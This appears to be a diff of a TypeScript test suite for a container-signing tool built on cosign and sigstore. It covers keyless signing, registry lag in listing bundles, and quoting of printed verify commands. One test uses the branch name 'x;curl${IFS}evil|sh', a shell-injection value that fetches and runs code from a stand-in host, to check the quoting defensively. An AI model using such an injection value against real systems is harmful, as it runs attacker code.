@@ -32,14 +32,14 @@ const bundle = 'application/vnd.dev.sigstore.bundle.v0.3+json';
 const repository = { name: 'a.test/app', registry: 'a.test', path: 'app' };
 const reference = `a.test/app@${index.digest}`;
 
-/** A registry whose API lists a bundle for everything. */
-const registry: Registry = {
-  ...memoryRegistry(),
-  referrers: async () => [{ digest: index.digest, artifactType: bundle }],
-};
-
 function world(given: string | undefined, exitCodes: Readonly<Record<string, number>> = {}) {
   const ran: Command[] = [];
+  // Its API lists a bundle for everything that was signed.
+  const registry: Registry = {
+    ...memoryRegistry(),
+    referrers: async () =>
+      ran.some(({ args }) => args[0] === 'sign') ? [{ digest: index.digest, artifactType: bundle }] : [],
+  };
   const ports = silentPorts({
     registry,
     github: { get: async () => undefined, identity: async () => given },
@@ -109,6 +109,21 @@ describe('keyless signing', () => {
       { args: ['verify', ...by, reference], env: {} },
     ]);
   });
+
+  it.each(['main', 'feat(x)', 'x;curl${IFS}evil|sh'])(
+    'shows a command to verify that a shell reads as it is on the branch %s',
+    async (branch) => {
+      const ref = `acme/ci/.github/workflows/publish.yml@refs/heads/${branch}`;
+      const { ports } = world(token({ ...claims, job_workflow_ref: ref }));
+      const signer = await readySigner(plan, ports);
+      const [signature] = await sign(plan, [await verifiedAs(index, [repository])], signer, ports);
+      const identity = `https://github.com/${ref}`;
+      const quoted = branch === 'main' ? identity : `'${identity}'`;
+      expect(signature?.command).toBe(
+        `cosign verify --certificate-identity ${quoted} --certificate-oidc-issuer ${claims.iss} ${reference}`,
+      );
+    },
+  );
 
   describe('in several repositories', () => {
     const repositories = ['a', 'b', 'a', 'a', 'b', 'a'].map((registry, number) => {
@@ -231,6 +246,86 @@ describe('keyless signing', () => {
   });
 });
 
+describe('an image that has attestations by the same signer', () => {
+  const attestation = { digest: `sha256:${'a'.repeat(64)}`, artifactType: bundle } as const;
+  const signature = { digest: `sha256:${'b'.repeat(64)}`, artifactType: bundle } as const;
+  const printed = (...types: readonly string[]) => JSON.stringify(types.map((type) => ({ critical: { type } })));
+  const provenance = 'https://slsa.dev/provenance/v1';
+  const signed = 'https://sigstore.dev/cosign/sign/v1';
+
+  /** Signs an image. The registry lists the new bundle after some reads; cosign prints this line. */
+  async function signWith(line: string, readsAfter: number) {
+    const { ran, ports } = world(token(claims));
+    let reads = 0;
+    const lagging: Registry = {
+      ...memoryRegistry(),
+      referrers: async () => {
+        if (ran.every(({ args }) => args[0] !== 'sign')) return [attestation];
+        reads += 1;
+        return reads > readsAfter ? [attestation, signature] : [attestation];
+      },
+    };
+    const seen: number[] = [];
+    const exec: Ports['exec'] = {
+      run: async (command) => {
+        const finished = await ports.exec.run(command);
+        if (command.args[0] !== 'verify') return finished;
+        seen.push(reads);
+        return { ...finished, stdout: `\n${line}\n` };
+      },
+    };
+    const work = sign(plan, [await verifiedAs(index, [repository])], signerOf('bundle'), {
+      ...{ ...ports, registry: lagging, exec },
+    });
+    const problems = await work.then(
+      () => [],
+      (error: unknown) => (error instanceof Failure ? error.problems : []),
+    );
+    return { codes: problems.map(({ code }) => code), fact: problems[0]?.fact ?? '', reads: seen[0] };
+  }
+
+  it('is verified after the registry lists the new bundle, although it listed others before', async () => {
+    expect(await signWith(printed(provenance, signed), 4)).toEqual({ codes: [], fact: '', reads: 5 });
+  });
+
+  it('fails if no new bundle appears', async () => {
+    const { codes, fact } = await signWith(printed(provenance), 1000);
+    expect(codes).toEqual(['SIGNATURE_NOT_VERIFIED']);
+    expect(fact).toContain('is not listed by the referrers API');
+  });
+
+  it.each([
+    ['of which cosign verified no signature fails', printed(provenance), ['SIGNATURE_NOT_VERIFIED']],
+    ['whose types cosign does not print, because it cannot read one of them, passes', printed('', ''), []],
+  ])('%s', async (_, line, codes) => {
+    expect((await signWith(line, 0)).codes).toEqual(codes);
+  });
+
+  it('is named if cosign verified only attestations of it, beside an image with a signature', async () => {
+    const world = bundling();
+    const names = ['a.test/app', 'a.test/other'].map(parseRepository);
+    const exec: Ports['exec'] = {
+      run: async (command) => {
+        const finished = await world.exec.run(command);
+        const line = (word: string) =>
+          `\n${word.startsWith('a.test/other@') ? printed(provenance) : printed(signed)}\n`;
+        const stdout = command.args.filter((word) => word.includes('@sha256:')).map(line);
+        return command.args[0] === 'verify' ? { ...finished, stdout: stdout.join('') } : finished;
+      },
+    };
+    const ports = silentPorts({ registry: world.registry, exec });
+    const keyed: Signer = { ...signerOf('bundle'), key: 'k8s://acme/release' };
+    await expect(sign(plan, [await verifiedAs(index, names)], keyed, ports)).rejects.toMatchObject({
+      problems: [
+        {
+          code: 'SIGNATURE_NOT_VERIFIED',
+          fact: expect.stringContaining(`cosign verified only attestations of a.test/other@${index.digest}`),
+        },
+      ],
+    });
+  });
+});
+
 describe('a bundle', () => {
   const tag = `sha256-${index.digest.slice('sha256:'.length)}`;
   const made = manifestOf({
@@ -248,9 +343,14 @@ describe('a bundle', () => {
     const plain = memoryRegistry();
     const { ports } = world(token(claims));
     await plain.putManifest(repository, made.digest, made);
-    plain.seed(repository, tag, listOf(entries));
+    const exec: Ports['exec'] = {
+      run: async (command) => {
+        if (command.args[0] === 'sign') plain.seed(repository, tag, listOf(entries));
+        return ports.exec.run(command);
+      },
+    };
     const verified = [await verifiedAs(index, [repository])];
-    const codes = await codesOf(sign(plan, verified, signerOf('bundle'), { ...ports, registry: plain }));
+    const codes = await codesOf(sign(plan, verified, signerOf('bundle'), { ...ports, exec, registry: plain }));
     const list = await plain.manifest(repository, tag);
     return { codes, puts: plain.puts, entries: JSON.parse(new TextDecoder().decode(list?.bytes)).manifests };
   }
